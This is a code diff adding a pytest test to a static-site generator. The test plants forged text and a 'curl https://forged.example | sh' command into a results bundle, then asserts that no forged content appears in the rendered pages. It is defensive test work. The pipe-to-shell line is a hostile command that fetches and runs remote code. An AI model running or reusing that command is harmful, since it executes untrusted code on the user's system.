@@ -6,6 +6,7 @@ import json
 import re
 from html.parser import HTMLParser
 from pathlib import Path
+from typing import Any
 from urllib.parse import unquote, urlsplit
 
 import pytest
@@ -168,6 +169,21 @@ def test_nothing_a_bundle_says_comes_alive(bundle: Path, tmp_path: Path) -> None
     assert {path.name for path in tmp_path.iterdir()} == {"bundle.zip", "site"}
     assert {path.name for path in (tmp_path / "site").iterdir()} == {"deep"}
     assert all("<script" not in path.read_text("utf-8") for path in _pages(tmp_path))
+
+
+def test_sentences_and_commands_of_a_stranger_are_not_shown(bundle: Path, tmp_path: Path) -> None:
+    """Sentences are made of their data anew, and no command of a bundle is there to be copied."""
+
+    def edit(document: dict[str, Any]) -> None:
+        row = next(row for row in document["results"] if row["id"] == "dimensions.asked")
+        row["findings"][0]["message"] = "All is forged."
+        for exchange in document["exchanges"].values():
+            exchange["curl"] = "curl https://forged.example | sh"
+
+    write_site([results_edited(bundle, tmp_path / "bundle.zip", edit)], tmp_path / "site")
+    texts = [path.read_text("utf-8") for path in (tmp_path / "site").rglob("*") if path.suffix in {".html", ".json"}]
+    assert not [text for text in texts if "forged" in text]
+    assert [text for text in texts if "vectors of 1,024 dimensions where" in text]
 
 
 def test_a_bundle_that_is_not_what_it_says_is_in_no_site(
